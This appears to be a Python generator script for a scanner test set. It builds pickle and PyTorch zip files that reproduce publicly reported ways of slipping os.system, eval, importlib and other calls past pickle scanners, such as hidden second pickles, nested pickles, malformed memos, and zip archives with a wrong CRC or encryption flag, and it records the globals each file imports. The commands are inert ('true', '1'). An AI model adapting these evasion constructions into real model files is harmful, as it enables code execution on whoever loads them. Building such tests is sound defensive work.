#!/usr/bin/env python3
"""Writes pickles of the classes that scanners were reported to miss, and `truth.json`: `make.py`, with Python alone.

Each file is rebuilt from the description in public reports (modelscan #85, #89, #263, #330, #331 and #338; picklescan's
advisories of a wrong CRC and a wrong flag bit), and is harmless: what it would run is `true`, `1` or a name that does not exist.
The truth is what Python itself asks for: `pickle`'s own unpickler, whose `find_class` returns stand-ins, lists the globals and
stops where Python would stop. Nothing is run here either.
"""
import io, json, pathlib, pickle, struct, zlib

FOLDER = pathlib.Path(__file__).resolve().parent
TRUTH = {}


class StandIn:
    """In place of a global: it can be called, and gets any attribute."""

    def __init__(self, *_, **__):
        pass

    def __call__(self, *_, **__):
        return StandIn()


class Listing(pickle._Unpickler):
    def find_class(self, module, name):
        self.found.append(f"{module}.{name}")
        return StandIn()


def globals_of(data):
    """What Python would import, in order, up to where it would stop."""
    unpickler = Listing(io.BytesIO(data))
    unpickler.found = []
    unpickler.persistent_load = lambda _: StandIn()
    try:
        unpickler.load()
    except Exception:
        pass
    return unpickler.found


def case(name, about, data, run, harmless=()):
    """`run` is the pickle that Python would load; pickles within it are in `harmless` or listed by it."""
    (FOLDER / name).write_bytes(data)
    found = [one for pickled in run for one in globals_of(pickled)]
    TRUTH[name] = {"about": about, "globals": [one for one in dict.fromkeys(found) if one not in harmless]}


def text(value):
    return b"X" + struct.pack("<I", len(value)) + value.encode()


def call(module, name, *arguments):
    return f"c{module}\n{name}\n".encode() + b"(" + b"".join(arguments) + b"tR"


def whole(*values):
    """A list of values, after which nothing else is wrong."""
    return b"\x80\x02](" + b"".join(values) + b"e."


RUN = call("os", "system", text("true"))

others = whole(call("torch.utils.collect_env", "run", text("true")),
               call("multiprocessing.util", "spawnv_passfds", b"C\x04true", b"(" + text("true") + b"t", b")"),
               call("mlflow.projects.backend.local", "_run_entry_point", text("true"), text("."), text(""), text("")),
               call("pandas.io.parsers.readers", "read_csv", text("https://example.invalid/x")))
case("1-other-functions.pkl", "functions of other packages that run commands or reach a server", others, [others])

reached = whole(call("torch.serialization", "os.system", text("true")))
case("2-reached-module.pkl", "os by way of a module that imports it", reached, [reached])

builtins = (b"\x80\x04\x8c\x05numpy\x8c\x04size\x93\x94\x8c\x05numpy\x8c\x0c__builtins__\x93\x94h\x00}}\x8c\x05shapeh\x01s\x86b"
            b"h\x00h\x00\x8c\x04eval\x86R\x8c\x011\x85R.")
case("3-builtins-of-numpy.pkl", "eval out of numpy.__builtins__, put into numpy.size", builtins, [builtins])

joined = (b"\x80\x04\x8c\x09importlib\x8c\x0dimport_module\x93\x94\x8c\x08builtins\x85R\x94\x8c\x08builtins\x8c\x07getattr\x93\x94"
          b"h\x02h\x01\x8c\x03str\x86R\x8c\x04join\x86h\x02h\x01\x8c\x04eval\x86R\x8c\x011\x85R.")
case("4-joined-names.pkl", "importlib and getattr, by names that are made while loading", joined, [joined])

slots = (b"\x80\x04cnumpy\nprod\nN(Va\nVos\nd\x86bN(Vb\nVsystem\nd\x86b0cnumpy\nprod.a\np0\ncnumpy\nprod.b\np1\n00"
         b"g0\ng1\n\x93Vtrue\n\x85R.")
case("5-names-by-build.pkl", "the names of a STACK_GLOBAL are attributes that BUILD has set", slots, [slots])

memo = b"\x80\x04" + RUN + b"0h\x63h\x64\x93."
case("6-no-such-memo.pkl", "os.system, then a STACK_GLOBAL of memo entries that do not exist", memo, [memo])

numbers = b"\x80\x04" + RUN + b"0K\x01K\x02\x93."
case("6-names-are-numbers.pkl", "os.system, then a STACK_GLOBAL of two numbers", numbers, [numbers])

broken = b"\x80\x02" + RUN + b"X\xff\xff\xff\x7fshort"
case("7-broken.pkl", "os.system, then the pickle is cut", broken, [broken])

first = b"\x80\x02}q\x00."
second = b"\x80\x02" + RUN + b"."
case("8-second-pickle.pkl", "os.system in a second pickle behind a sound one", first + second, [first, second])

inner = b"cposix\nsystem\n(Vtrue\ntR."
nested = whole(b"cpickle\nloads\n(C" + bytes([len(inner)]) + inner + b"tR")
case("9-pickle-in-pickle.pkl", "a pickle in the bytes that another one loads", nested, [nested, inner])


def member(name, content, crc=None, local_flags=0, flags=0):
    crc, name = zlib.crc32(content) if crc is None else crc, name.encode()
    heads = [struct.pack("<HHHHHIIIHH", 20, of_head, 0, 0, 0x21, crc, len(content), len(content), len(name), 0)
             for of_head in (local_flags, flags)]
    return name, *heads, content


def archive(*members):
    """A zip archive, stored."""
    out, directory = b"", b""
    for name, local_head, head, content in members:
        directory += b"PK\x01\x02\x14\x00" + head + struct.pack("<HHHII", 0, 0, 0, 0, len(out)) + name
        out += b"PK\x03\x04" + local_head + name + content
    count = len(members)
    return out + directory + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(directory), len(out), 0)


STORAGE = b"((X\x07\x00\x00\x00storagectorch\nFloatStorage\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpuK\x01tQK\x00(K\x01t(K\x01t\x89}tR"
TENSOR = b"ctorch._utils\n_rebuild_tensor_v2\n" + STORAGE
STATE = b"\x80\x02}(X\x01\x00\x00\x00w" + TENSOR + b"X\x01\x00\x00\x00x" + RUN + b"u."
HARMLESS = ("torch._utils._rebuild_tensor_v2", "torch.FloatStorage")
REST = [member("x/byteorder", b"little"), member("x/data/0", struct.pack("<f", 1.5)), member("x/version", b"3\n")]

case("10-wrong-crc.pt", "a zip archive of torch with os.system, with a wrong CRC of its pickle: zipfile of Python refuses it, torch 2.15 loads it",
     archive(member("x/data.pkl", STATE, crc=1), *REST), [STATE], HARMLESS)
case("10-wrong-flag.pt", "the same with the flag of encryption in the local header alone, which torch 2.15 ignores",
     archive(member("x/data.pkl", STATE, local_flags=1), *REST), [STATE], HARMLESS)
case("10-encrypted.pt", "the same with the flag in the directory, too: torch 2.15 refuses it", archive(member("x/data.pkl", STATE, local_flags=1, flags=1), *REST), [])
SOUND = b"\x80\x02}X\x01\x00\x00\x00w" + TENSOR + b"s."
case("10-other-name.pt", "os.system in a member whose name is not of a pickle",
     archive(member("x/data.pkl", SOUND), *REST, member("x/config.p", second)), [SOUND, second], HARMLESS)

(FOLDER / "truth.json").write_text(json.dumps(TRUTH, indent=1) + "\n")
